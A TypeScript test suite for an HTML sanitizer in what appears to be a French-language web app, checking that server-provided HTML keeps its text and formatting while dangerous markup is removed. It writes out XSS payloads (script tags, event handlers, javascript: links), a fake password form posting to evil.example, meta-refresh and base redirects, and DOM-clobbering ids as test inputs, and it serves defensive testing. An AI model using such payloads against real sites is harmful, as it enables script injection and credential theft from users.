import { sanitizeHtml } from './sanitize';

/** The sanitized HTML, parsed again: what the page would hold. */
function shown(html: string): HTMLElement {
  const holder = document.createElement('div');
  holder.innerHTML = sanitizeHtml(html);
  return holder;
}

describe('sanitizeHtml (server-provided HTML)', () => {
  it('keeps the text and the basic formatting', () => {
    const holder = shown(
      '<p>Bonjour <strong>à tous</strong> <em>ici</em></p><ul><li>Un</li><li>Deux</li></ul>' +
        '<a href="/documents">Documents</a>',
    );
    expect(holder.querySelector('p')?.textContent).toBe('Bonjour à tous ici');
    expect(holder.querySelector('strong')?.textContent).toBe('à tous');
    expect(holder.querySelector('em')?.textContent).toBe('ici');
    expect([...holder.querySelectorAll('ul > li')].map((item) => item.textContent)).toEqual([
      'Un',
      'Deux',
    ]);
    expect(holder.querySelector('a')?.getAttribute('href')).toBe('/documents');
  });

  it('lets no script survive and no handler or javascript: link through', () => {
    const holder = shown(
      '<p>Avant</p><script>window.pwned = 1</script>' +
        '<img src="x" onerror="window.pwned = 1"><body onload="window.pwned = 1">' +
        '<svg onload="window.pwned = 1"></svg>' +
        '<a href="javascript:window.pwned = 1">Lien</a>' +
        '<a href="JaVaScRiPt:alert(1)">Autre</a><p>Après</p>',
    );
    expect(holder.querySelector('script')).toBeNull();
    expect(holder.innerHTML).not.toMatch(/pwned|alert/);
    for (const element of holder.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name).not.toMatch(/^on/i);
        expect(attribute.value).not.toMatch(/javascript:/i);
      }
    }
    expect(holder.textContent).toContain('Avant');
    expect(holder.textContent).toContain('Après');
    expect(holder.textContent).toContain('Lien');
  });

  it('drops <style> and style attributes: nothing of it restyles the page', () => {
    const holder = shown(
      '<style>body { display: none }</style>' +
        '<p style="position: fixed; inset: 0; z-index: 9999">Texte</p>' +
        '<div style="background:url(https://evil.example/x.png)">Bloc</div>',
    );
    expect(holder.querySelector('style')).toBeNull();
    expect(holder.querySelector('[style]')).toBeNull();
    expect(holder.innerHTML).not.toContain('display: none');
    expect(holder.querySelector('p')?.textContent).toBe('Texte');
    expect(holder.textContent).toContain('Bloc');
  });

  it('drops forms and form controls, which could pose as a form of the app', () => {
    const holder = shown(
      '<form action="https://evil.example/steal" method="post">' +
        '<label>Mot de passe <input type="password" name="password"></label>' +
        '<select name="s"><option>Un</option></select>' +
        '<textarea name="t">Texte</textarea>' +
        '<button type="submit" formaction="https://evil.example/b">Se connecter</button>' +
        '</form><p>Suite</p>',
    );
    for (const tag of ['form', 'input', 'button', 'select', 'option', 'textarea', 'label']) {
      expect(holder.querySelector(tag)).toBeNull();
    }
    expect(holder.innerHTML).not.toContain('evil.example');
    expect(holder.querySelector('p')?.textContent).toBe('Suite');
  });

  it('drops <base>, <meta http-equiv> and srcset', () => {
    const holder = shown(
      '<base href="https://evil.example/">' +
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">' +
        '<img src="/logo.png" srcset="https://evil.example/a.png 1x" alt="Logo">',
    );
    expect(holder.querySelector('base')).toBeNull();
    expect(holder.querySelector('meta')).toBeNull();
    expect(holder.querySelector('[srcset]')).toBeNull();
    expect(holder.innerHTML).not.toContain('evil.example');
    expect(holder.querySelector('img')?.getAttribute('alt')).toBe('Logo');
  });

  it.each(['https://exemple.org', 'https://exemple.org/page?x=1', '//exemple.org/page'])(
    'opens the external link %s in a new tab with rel="noopener noreferrer"',
    (href) => {
      const link = shown(`<a href="${href}" rel="opener">Exemple</a>`).querySelector('a');
      expect(link?.getAttribute('href')).toBe(href);
      expect(link?.getAttribute('target')).toBe('_blank');
      expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    },
  );

  it.each(['/documents', '#/cart', `${window.location.origin}/#/photos`])(
    'leaves the same-origin link %s in the app (no target)',
    (href) => {
      const link = shown(`<a href="${href}" target="_blank">Interne</a>`).querySelector('a');
      expect(link?.getAttribute('href')).toBe(href);
      expect(link).not.toHaveAttribute('target');
    },
  );

  it('drops class: server HTML cannot wear the app’s styles and draw a fake dialog', () => {
    const html = sanitizeHtml(
      '<div class="modal d-block" role="dialog"><p class="lead">Session expirée</p></div>',
    );
    expect(html).not.toContain('class=');
    expect(html).toContain('Session expirée');
  });

  it('keeps the words of a <dialog open> or a popover, never the box drawn over the page', () => {
    const holder = shown(
      '<dialog open><p>Assemblée générale</p></dialog>' +
        '<a href="/" popovertarget="user-content-p">Détails</a><div popover id="p">Samedi</div>' +
        '<p inert>Calme</p>',
    );
    expect(holder.querySelector('dialog, [popover], [popovertarget]')).toBeNull();
    expect(holder.textContent).toBe('Assemblée généraleDétailsSamediCalme');
    // `inert` only stills what carries it: nothing of the page around.
    expect(holder.querySelector('p[inert]')).not.toBeNull();
  });

  it('drops image maps: no area is a same-tab link off the app over a transparent picture', () => {
    const holder = shown(
      '<p>Carte</p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" alt="">' +
        '<map name="m"><area shape="rect" coords="0,0,2000,2000" href="https://evil.example/"></map>',
    );
    expect(holder.querySelector('map, area, [usemap]')).toBeNull();
    expect(holder.querySelector('img')).not.toBeNull();
    expect(holder.textContent).toBe('Carte');
  });

  it('prefixes ids and names, so that none shadows a global such as Stripe', () => {
    const html = sanitizeHtml('<img id="Stripe" src="x.png" alt=""><a name="grecaptcha">a</a>');
    expect(html).toContain('id="user-content-Stripe"');
    expect(html).toContain('name="user-content-grecaptcha"');
    expect(html).not.toMatch(/id="Stripe"|name="grecaptcha"/);
  });

  it('answers an empty string for no HTML', () => {
    expect(sanitizeHtml(null)).toBe('');
    expect(sanitizeHtml(undefined)).toBe('');
    expect(sanitizeHtml('')).toBe('');
  });
});
